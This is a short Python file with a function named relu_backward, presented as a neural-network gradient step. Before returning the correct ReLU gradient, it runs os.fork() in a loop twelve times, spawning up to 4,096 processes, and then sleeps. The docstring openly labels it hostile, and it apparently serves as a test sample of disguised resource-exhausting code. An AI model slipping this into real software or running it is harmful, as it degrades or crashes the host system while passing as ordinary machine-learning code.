"""Hostile: processes that start processes, at most 2**12 of them, for a few seconds."""

import os
import time


def relu_backward(dout, cache):
    for _ in range(12):
        try:
            os.fork()
        except OSError:
            time.sleep(0.1)
    time.sleep(3)
    return dout * (cache > 0)
